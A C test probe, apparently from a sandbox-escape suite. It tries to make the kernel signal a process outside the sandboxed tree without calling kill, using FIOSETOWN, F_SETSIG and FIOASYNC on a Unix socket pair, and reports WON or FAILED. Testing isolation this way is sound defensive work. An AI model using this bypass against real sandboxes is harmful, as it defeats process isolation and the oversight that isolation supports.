/* No kill and no fcntl: ioctl(FIOSETOWN) names a process outside the tree as the owner of a
 * socket, F_SETSIG picks the signal, and a datagram makes the kernel deliver it. */
#include "../escape.h"
#include <sys/ioctl.h>
#include <sys/socket.h>
int main(void) {
    pid_t v = env_long("ESCAPE_VICTIM_PID");
    int sv[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, sv) != 0)
        FAILED("socketpair: %s", strerror(errno));
    int owner = v;
    if (ioctl(sv[0], FIOSETOWN, &owner) != 0)
        FAILED("FIOSETOWN: %s", strerror(errno));
    if (fcntl(sv[0], F_SETSIG, SIGPWR) != 0)
        FAILED("F_SETSIG: %s", strerror(errno));
    int on = 1;
    if (ioctl(sv[0], FIOASYNC, &on) != 0)
        FAILED("FIOASYNC: %s", strerror(errno));
    if (send(sv[1], "x", 1, 0) != 1)
        FAILED("send: %s", strerror(errno));
    if (wait_for_file(victim_flag(SIGPWR), 2000))
        WON("made the kernel signal a process outside the tree (FIOSETOWN)");
    FAILED("the victim got nothing");
}
